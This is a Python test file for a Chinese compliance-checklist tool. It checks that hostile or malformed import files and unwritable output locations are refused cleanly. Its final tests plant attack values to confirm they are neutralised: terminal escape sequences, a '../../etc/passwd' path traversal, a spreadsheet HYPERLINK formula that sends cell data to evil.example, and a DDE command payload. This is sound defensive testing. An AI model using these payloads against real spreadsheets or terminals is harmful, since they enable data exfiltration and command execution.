"""Hostile imports and hostile places to write: every way an export from someone else, or a location a user
names, can be wrong, what the user is told, and that nothing appears or is lost.

Each case takes a sound export (or file), spoils it one way, and checks the message, the exit code and that no
file (nor a temporary one) was left. The write-location cases use real conditions: a read-only folder (a
read-only tmpfs when running as root, who may write into any folder), a folder that is not there, a folder
where a file should be, a path through a file, and a full disk (a small filled tmpfs, root only; /dev/full for
streams anyone can use).
"""

from __future__ import annotations

import contextlib
import copy
import csv
import datetime as dt
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest

from checklist.assessment import ActionItem
from checklist.interchange import InterchangeError, from_csv_cell, import_json, read_json, to_csv, to_json
from checklist.model import Answer
from checklist.store import AssessmentFile, StoreError
from cli.main import main
from tests.helpers import SAMPLE_GUIDE, run_cli
from tests.test_store import PROFILE

PROFILE_YAML = ("name: 杭州示例生物科技有限公司\nuscc: 91330100MA27XYW12A\nbusiness_types: [mah]\n"
                "activities: [clinical_trials]\nassessor: 王敏\nassessment_date: 2026-11-28\n")


@pytest.fixture(scope="module")
def sound(tmp_path_factory, sample_guide):
    """A sound file with answers, a note, an action and an attachment, and its export (the sample guide inside)."""
    folder = tmp_path_factory.mktemp("sound")
    path = folder / "客户.lhc"
    with AssessmentFile.create(path, sample_guide, PROFILE, "王敏") as f:
        f.set_answer("Q01-1", Answer.PARTIAL)
        f.set_note("Q01-1", "住所变更未登记")
        f.set_answer("Q04-1", Answer.NOT_APPLICABLE, "无自主研发")
        f.set_action(ActionItem("Q01-1", "补办住所变更登记", "法务部 李娜"))
        f.add_attachment("Q01-1", "营业执照.pdf", data=b"%PDF-1.7 licence")
        data = to_json(f, with_attachments=True)
    return path, data


@pytest.fixture
def export(sound):
    return copy.deepcopy(sound[1])


def _write(path: Path, data) -> Path:
    path.write_text(json.dumps(data, ensure_ascii=True), encoding="utf-8")  # \ud800 escaped: valid JSON
    return path


def _refused(data, tmp_path: Path) -> str:
    """Import ``data`` as a user would; return what they are told. It must be refused and leave nothing."""
    target = tmp_path / "导入.lhc"
    with pytest.raises(InterchangeError) as err:
        import_json(data, target, "李娜")
    assert not target.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
    return err.value.message.zh


def _cli_refused(tmp_path: Path, *args: str) -> str:
    result = run_cli(*args)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    return result.stderr.strip()


# --- cause 3: the import skipped the checks that `new` makes --------------------------------------------------


def test_a_20_million_character_note_is_refused_naming_the_limit(export, tmp_path):
    export["answers"][0]["note"] = "x" * 20_000_000
    src = _write(tmp_path / "大备注.json", export)
    message = _cli_refused(tmp_path, "import", str(src), "-o", str(tmp_path / "导入.lhc"))
    assert message == ("错误：导出文件有误，未生成文件（1 处问题）：\n"
                       "  问题 “Q01-1”：备注不能超过 20,000 字（现有 20,000,000 字）。")
    assert not (tmp_path / "导入.lhc").exists()


def test_facts_given_as_a_string_are_refused_not_split_into_letters(export, tmp_path):
    export["profile"]["facts"] = "mah"
    assert "企业信息：企业特征应为特征编号的列表，而不是“mah”。" in _refused(export, tmp_path)


def test_an_unknown_fact_is_refused(export, tmp_path):
    export["profile"]["facts"] = ["mah", "cloning"]
    assert "企业信息：指引中没有这些企业特征（共 1 个）：“cloning”。" in _refused(export, tmp_path)


def test_an_invalid_credit_code_is_refused_with_the_check_character(export, tmp_path):
    export["profile"]["uscc"] = "91330100MA27XYW12B"
    assert "企业信息：校验位不对：按 GB 32100 计算，第 18 位应为“A”，而不是“B”。" in _refused(export, tmp_path)


@pytest.mark.parametrize(("version", "message"), [
    (True, "格式版本号 format_version 应为整数（本软件支持第 1 版），而不是 true。"),
    (-7, "格式版本号 format_version -7 无效（本软件支持第 1 版）。"),
    ("1", "格式版本号 format_version 应写成数字 1，而不是文字 \"1\"（去掉引号）。"),
    (2, "导出文件格式第 2 版比本软件支持的第 1 版新，请升级软件。"),
    (1.0, "格式版本号 format_version 应为整数（本软件支持第 1 版），而不是 1.0。"),
])
def test_format_version_must_be_a_supported_integer(export, tmp_path, version, message):
    export["format_version"] = version
    with pytest.raises(InterchangeError) as err:
        read_json(_write(tmp_path / "v.json", export))
    assert err.value.message.zh == message
    assert "newer" not in err.value.message.en or version == 2


def test_legalcheck_new_refuses_facts_as_a_string_and_an_overlong_name(tmp_path):
    profile = tmp_path / "company.yaml"
    profile.write_text(PROFILE_YAML.replace("business_types: [mah]", "business_types: mah"), encoding="utf-8")
    message = _cli_refused(tmp_path, "new", "--profile", str(profile), "-o", str(tmp_path / "x.lhc"),
                           "--guide", str(SAMPLE_GUIDE))
    assert message == f"错误：{profile}: business_types 应为特征编号的列表，例如 [mah, cdmo]，而不是“mah”。"
    profile.write_text(PROFILE_YAML.replace("杭州示例生物科技有限公司", "长" * 5000), encoding="utf-8")
    message = _cli_refused(tmp_path, "new", "--profile", str(profile), "-o", str(tmp_path / "x.lhc"),
                           "--guide", str(SAMPLE_GUIDE))
    assert f"{profile}: name: 企业名称不能超过 200 字（现有 5,000 字）。" in message
    assert not (tmp_path / "x.lhc").exists()


def test_the_store_refuses_what_the_import_refuses_and_keeps_the_file(sound, tmp_path):
    path = tmp_path / "客户.lhc"
    shutil.copyfile(sound[0], path)
    with AssessmentFile.open(path, "王敏") as f:
        before = f.assessment
        with pytest.raises(StoreError) as err:
            f.set_note("Q01-1", "x" * 20_001)
        assert err.value.message.zh == "备注不能超过 20,000 字（现有 20,001 字）。"
        with pytest.raises(StoreError) as err:
            f.set_action(ActionItem("Q01-1", "补办", "李娜", due=dt.date(1900, 1, 1)))
        assert err.value.message.zh == "完成期限 1900-01-01 不在 2000-01-01 至 2100-12-31 之间。"
        with pytest.raises(StoreError) as err:
            f.add_attachment("Q01-1", "..", data=b"x")
        assert err.value.code == "bad_attachment_name"
        with pytest.raises(StoreError) as err:
            f.update_profile(replace(before.profile, facts=frozenset({"cloning"})))
        assert err.value.message.zh.startswith("指引中没有这些企业特征")
        assert f.assessment == before
    with AssessmentFile.open(path, "王敏", read_only=True) as f:
        assert f.assessment.records == before.records and f.assessment.actions == before.actions


# --- cause 4: values the import did not expect ------------------------------------------------------------------


def test_json_nested_100000_deep_is_refused_plainly(tmp_path):
    src = tmp_path / "深.json"
    src.write_text('{"format": "legalcheck-assessment", "format_version": 1, "x": ' + "[" * 100_000
                   + "]" * 100_000 + "}", encoding="utf-8")
    message = _cli_refused(tmp_path, "import", str(src), "-o", str(tmp_path / "深.lhc"))
    assert message == "错误：这不是体检导出文件：JSON 的嵌套层数过多（超过约 1,000 层）。"
    assert not (tmp_path / "深.lhc").exists()


def test_a_lone_surrogate_is_refused_before_it_reaches_sqlite(export, tmp_path):
    export["answers"][0]["note"] = "半个\ud800字"
    export["profile"]["name"] = "公司\udfff"
    message = _refused(export, tmp_path)
    assert "企业信息：企业名称含有不能保存的字符（U+DFFF），请删除它。" in message
    assert "问题 “Q01-1”：备注含有不能保存的字符（U+D800），请删除它。" in message
    guide = copy.deepcopy(export)
    guide["guide"]["files"]["guide.yaml"] += "\ud800"
    assert "含有不能保存的字符（U+D800）" in _refused(guide, tmp_path)


def _set(path: str, value):
    def spoil(data):
        *parents, last = path.split("/")
        for key in parents:
            data = data[int(key)] if isinstance(data, list) else data[key]
        data[int(last) if isinstance(data, list) else last] = value
    return spoil


@pytest.mark.parametrize(("spoil", "message"), [
    (_set("profile", ["a"]), "导出文件中的“profile”（企业信息）应为对象，而不是列表（1 项）。"),
    (_set("profile/name", {"zh": "x"}), "企业信息：企业名称应为文字，而不是对象（1 项）。"),
    (_set("profile/facts", [1, {}]), "企业信息：企业特征应为特征编号的列表，而不是列表（2 项）。"),
    (_set("profile/assessment_date", "2026-02-30"), "企业信息：体检日期 “2026-02-30” 不是有效的日期"),
    (_set("answers", {"Q01-1": "partial"}), "导出文件中的“answers”（回答）应为列表，而不是对象（1 项）。"),
    (_set("answers/0", "partial"), "回答第 1 项应为对象，而不是“partial”。"),
    (_set("answers/0/question_id", 5), "回答第 1 项的问题编号 question_id 应为文字，而不是5。"),
    (_set("answers/0/answer", "yes"), "问题 “Q01-1”：回答 “yes” 不是允许的值"),
    (_set("answers/0/note", 7), "问题 “Q01-1”：备注应为文字，而不是7。"),
    (_set("answers/0/changed_at", "昨天"), "问题 “Q01-1”：修改时间 “昨天” 不是有效的日期"),
    (_set("answers/1/na_reason", ""), "问题 “Q04-1”：标为“不适用”时请写明理由。"),
    (_set("actions/0/due", "2026-02-30"), "问题 “Q01-1”：完成期限 “2026-02-30” 不是有效的日期"),
    (_set("actions/0/status", "closed"), "问题 “Q01-1”：整改状态 “closed” 不是允许的值（open、in_progress、done）。"),
    (_set("actions/0/owner", ["a"]), "问题 “Q01-1”：责任人应为文字，而不是列表（1 项）。"),
    (_set("attachments/0/name", "../../etc/passwd"), "附件名称 “../../etc/passwd” 不是单个文件名"),
    (_set("attachments/0/data_base64", 12), "问题 “Q01-1”：附件 “营业执照.pdf” 的数据应为 base64 文字。"),
    (_set("guide", "biomed"), "导出文件中的“guide”应为对象，而不是“biomed”。"),
    (_set("guide/files", ["guide.yaml"]), "导出文件中的“guide.files”应为对象（文件名: 内容），而不是列表（1 项）。"),
    (_set("guide/files/guide.yaml", 3), "指引文件 “guide.yaml” 的内容应为文字，而不是3。"),
    (lambda d: d["answers"].append(dict(d["answers"][0])), "问题 “Q01-1” 的回答出现了不止一次。"),
])
def test_wrong_types_anywhere_get_a_message_not_a_traceback(export, tmp_path, spoil, message):
    spoil(export)
    assert message in _refused(export, tmp_path)


def test_a_9_mb_import_of_unknown_question_ids_is_reported_in_seconds(export, tmp_path):
    """Each unknown id used to be fuzzy-matched against every question; now only the first 20 get a hint."""
    answer = {"answer": "partial", "note": "需要补充材料" * 10, "na_reason": "", "changed_at": None,
              "changed_by": "王敏"}
    export["answers"] = [{"question_id": f"Q{n:05d}-{n % 7}", **answer} for n in range(60_000)]
    src = _write(tmp_path / "大.json", export)
    assert src.stat().st_size > 9_000_000
    start = time.perf_counter()
    message = _cli_refused(tmp_path, "import", str(src), "-o", str(tmp_path / "大.lhc"))
    took = time.perf_counter() - start
    assert took < 10, took
    lines = message.splitlines()
    assert lines[0] == "错误：导出文件有误，未生成文件（60000 处问题）："
    assert lines[2] == "  指引中没有问题 “Q00001-1”。是否想写“Q01-1”？"
    assert lines[-1] == "  ……另有 59990 处问题未列出。"
    assert not (tmp_path / "大.lhc").exists()


def test_an_import_over_the_size_limit_says_so_without_reading_it(tmp_path):
    src = tmp_path / "巨大.json"
    with open(src, "wb") as handle:
        handle.truncate(600 * 1024 * 1024)  # sparse: takes no room
    message = _cli_refused(tmp_path, "import", str(src), "-o", str(tmp_path / "巨大.lhc"))
    assert message == "错误：文件 巨大.json 有 600 MB，超过导入文件 512 MB 的上限。"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_a_pipe_or_a_folder_named_like_an_export_is_refused_at_once(tmp_path):
    fifo = tmp_path / "管道.json"
    os.mkfifo(fifo)
    message = _cli_refused(tmp_path, "import", str(fifo), "-o", str(tmp_path / "x.lhc"))
    assert message == f"错误：{fifo} 不是普通文件（可能是管道或设备），不能导入。"
    (tmp_path / "夹.json").mkdir()
    message = _cli_refused(tmp_path, "import", str(tmp_path / "夹.json"), "-o", str(tmp_path / "x.lhc"))
    assert message == f"错误：{tmp_path / '夹.json'} 是一个文件夹，不是导出文件。"


# --- cause 4: writing into a read-only, missing or full location -------------------------------------------------


def _mount(folder: Path, options: str) -> bool:
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("needs root to mount a small tmpfs")
    folder.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)], capture_output=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
    return True


@contextlib.contextmanager
def _location(kind: str, tmp_path: Path):
    """A folder of ``kind`` to write into, and the message's cause for it."""
    folder = tmp_path / {"read_only": "只读", "full": "满", "missing": "没有这个文件夹"}.get(kind, "一个文件")
    mounted = False
    try:
        if kind == "read_only" and os.geteuid() == 0:  # root writes into any folder: a read-only file system
            mounted = _mount(folder, "ro,size=1m")
            cause = "所在位置是只读的，没有写入权限"
        elif kind == "read_only":
            folder.mkdir()
            folder.chmod(0o555)
            cause = "没有写入权限"
        elif kind == "full":
            mounted = _mount(folder, "size=64k")
            with contextlib.suppress(OSError), open(folder / "占位", "wb", buffering=0) as filler:
                while True:
                    filler.write(b"\0" * 4096)
            cause = "磁盘空间不足"
        elif kind == "missing":
            cause = "文件夹不存在"
        else:
            folder.write_text("x")
            cause = "路径中有一部分是文件而不是文件夹"
        yield folder, cause
    finally:
        if mounted:
            subprocess.run(["umount", str(folder)], check=False)
        elif kind == "read_only" and folder.is_dir():
            folder.chmod(0o755)


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name != "占位") if folder.is_dir() else []


@pytest.mark.parametrize("kind", ["read_only", "missing", "through_a_file", "full"])
@pytest.mark.parametrize("command", ["export", "import", "new"])
def test_writing_where_it_cannot_says_where_and_why(sound, tmp_path, capsys, command, kind):
    src_json = _write(tmp_path / "源.json", sound[1])
    profile = tmp_path / "company.yaml"
    profile.write_text(PROFILE_YAML, encoding="utf-8")
    with _location(kind, tmp_path) as (folder, cause):
        target = folder / ("出.json" if command == "export" else "出.lhc")
        args = {"export": ["export", str(sound[0]), "-o", str(target)],
                "import": ["import", str(src_json), "-o", str(target)],
                "new": ["new", "--profile", str(profile), "--guide", str(SAMPLE_GUIDE), "-o", str(target)]}[command]
        assert main(args) == 1
        verb = "创建" if command != "export" and kind == "full" else "写入"
        assert capsys.readouterr().err.strip() == f"错误：无法{verb} {target}：{cause}。"
        assert _leftovers(folder) == []


@pytest.mark.parametrize("command", ["export", "import", "new", "report"])
def test_a_folder_where_the_file_should_go_is_named_as_such(sound, tmp_path, capsys, command):
    target = tmp_path / {"export": "出.json", "report": "出.pdf"}.get(command, "出.lhc")
    target.mkdir()
    args = {"export": ["export", str(sound[0]), "-o", str(target)],
            "import": ["import", str(_write(tmp_path / "源.json", sound[1])), "-o", str(target)],
            "new": ["new", "--profile", "x.yaml", "-o", str(target)],
            "report": ["report", str(sound[0]), "-o", str(target)]}[command]
    if command == "new":
        profile = tmp_path / "company.yaml"
        profile.write_text(PROFILE_YAML, encoding="utf-8")
        args = ["new", "--profile", str(profile), "--guide", str(SAMPLE_GUIDE), "-o", str(target)]
    assert main(args) == 1
    err = capsys.readouterr().err.strip()
    if command in ("import", "new"):
        assert err == f"错误：{target} 是一个文件夹，请给出要新建的体检文件名（以 .lhc 结尾）。"
    else:
        assert err == f"错误：无法写入 {target}：这是一个文件夹。"
    assert list(target.iterdir()) == []


@pytest.mark.parametrize("kind", ["read_only", "through_a_file"])
def test_report_into_a_place_it_cannot_write_is_refused_before_the_layout(sound, tmp_path, capsys, kind):
    with _location(kind, tmp_path) as (folder, cause):
        target = folder / "报告.pdf"
        assert main(["report", str(sound[0]), "-o", str(target)]) == 1
        assert capsys.readouterr().err.strip() == f"错误：无法写入 {target}：{cause}。"
        assert _leftovers(folder) == []


def test_report_onto_a_full_disk_names_the_cause_and_leaves_no_temporary_file(sound, tmp_path):
    with _location("full", tmp_path) as (folder, cause):
        target = folder / "报告.pdf"
        message = _cli_refused(tmp_path, "report", str(sound[0]), "-o", str(target))
        assert message.splitlines()[-1] == f"错误：无法写入 {target}：{cause}。"
        assert _leftovers(folder) == []


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full here")
def test_a_full_stream_is_a_message_too(sound, tmp_path):
    """/dev/full: every write fails with "no space left", for any user."""
    message = _cli_refused(tmp_path, "export", str(sound[0]), "--format", "csv", "-o", "/dev/full")
    assert message == "错误：无法写入 /dev/full：磁盘空间不足。"
    with open("/dev/full", "w") as full:
        result = subprocess.run([sys.executable, "-m", "cli", "export", str(sound[0])], stdout=full,
                                stderr=subprocess.PIPE, text=True, cwd=Path(__file__).parents[2])
    assert (result.returncode, result.stderr.strip()) == (1, "错误：无法写入 标准输出：磁盘空间不足。")


# --- cause 7: what a terminal or a spreadsheet would obey --------------------------------------------------------

CONTROL = [chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))]


def test_score_prints_a_hostile_company_name_without_its_control_characters(sound, tmp_path):
    path = tmp_path / "恶意.lhc"
    shutil.copyfile(sound[0], path)
    with sqlite3.connect(path) as conn:  # as a file from someone else may hold it
        data = json.loads(conn.execute("SELECT data FROM profile").fetchone()[0])
        data["name"] = "恶意\x1b[31m公司\x07\x1b]0;标题\x07\x9b2J"
        conn.execute("UPDATE profile SET data = ?", (json.dumps(data, ensure_ascii=False),))
    result = run_cli("score", str(path))
    assert result.returncode == 0, result.stderr
    first = result.stdout.splitlines()[0]
    assert first == "恶意公司2J（91330100MA27XYW12A）"
    assert not any(c in result.stdout for c in CONTROL)


def test_guide_validate_and_citations_print_hostile_titles_without_control_characters(tmp_path):
    guide = tmp_path / "指引"
    shutil.copytree(SAMPLE_GUIDE, guide)
    meta = guide / "guide.yaml"
    meta.write_text("\n".join('title: "恶意\\e[31m指引\\a"' if line.startswith("title:") else line
                              for line in meta.read_text(encoding="utf-8").splitlines()) + "\n", encoding="utf-8")
    laws = guide / "laws.yaml"  # the law's title, as its statute text has it too
    laws.write_text(laws.read_text(encoding="utf-8").replace(
        "    title: 中华人民共和国公司法", '    title: "中华人民共和国\\e]0;pwned\\a公司法\\u202e"', 1), encoding="utf-8")
    statute = guide / "statutes" / "gongsi-fa.md"
    statute.write_text(statute.read_text(encoding="utf-8").replace(
        "# 中华人民共和国公司法", "# 中华人民共和国\x1b]0;pwned\x07公司法\u202e", 1), encoding="utf-8")
    validated = run_cli("guide", "validate", str(guide))
    assert validated.returncode == 0, validated.stderr
    assert "指引“恶意指引”" in validated.stdout
    cited = run_cli("guide", "citations", str(guide))
    assert "《中华人民共和国公司法<U+202E>》第三十四条" in cited.stdout
    for output in (validated.stdout, validated.stderr, cited.stdout):
        assert not any(c in output for c in CONTROL if c != "\t")


def test_csv_cells_that_would_run_as_formulas_are_text(sound, tmp_path):
    path = tmp_path / "公式.lhc"
    shutil.copyfile(sound[0], path)
    note, owner, measure = '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)"
    with AssessmentFile.open(path, "王敏") as f:
        f.set_note("Q01-1", note)
        f.set_action(ActionItem("Q01-1", measure, owner))
        f.set_note("Q02-1", "'=already quoted")
        f.set_note("Q03-1", "- 已整改；'普通'")
        text = to_csv(f.assessment)
    rows = {r["问题编号"]: r for r in csv.DictReader(io.StringIO(text[1:]))}
    assert (rows["Q01-1"]["备注"], rows["Q01-1"]["责任人"], rows["Q01-1"]["整改措施"]) == (
        "'" + note, "'" + owner, "'" + measure)
    assert rows["Q02-1"]["备注"] == "''=already quoted"
    assert rows["Q03-1"]["备注"] == "'- 已整改；'普通'"
    for qid, original in (("Q01-1", note), ("Q02-1", "'=already quoted"), ("Q03-1", "- 已整改；'普通'")):
        assert from_csv_cell(rows[qid]["备注"]) == original  # what the user wrote, exactly
    assert from_csv_cell(rows["Q01-1"]["责任人"]) == owner
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values() for cell in row.values())
